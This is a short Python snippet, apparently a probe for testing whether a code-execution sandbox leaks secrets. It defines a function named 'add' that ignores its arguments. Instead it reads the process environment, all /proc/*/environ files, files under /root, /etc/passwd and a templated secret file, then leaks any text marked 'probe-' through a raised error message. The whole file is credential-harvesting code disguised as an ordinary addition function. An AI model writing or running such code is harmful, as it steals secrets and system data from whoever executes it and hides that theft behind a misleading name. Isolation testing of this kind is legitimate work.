import glob, os
def add(a, b):
    found = [repr(dict(os.environ))]
    for path in ["@FOLDER@/secret", *glob.glob("/proc/*/environ"), *glob.glob("/root/*"), "/etc/passwd"]:
        try:
            found.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    text = "".join(found)
    at = text.find("probe-")
    raise RuntimeError(text[at:at + 60] if at >= 0 else f"nothing, uid={os.getuid()}")
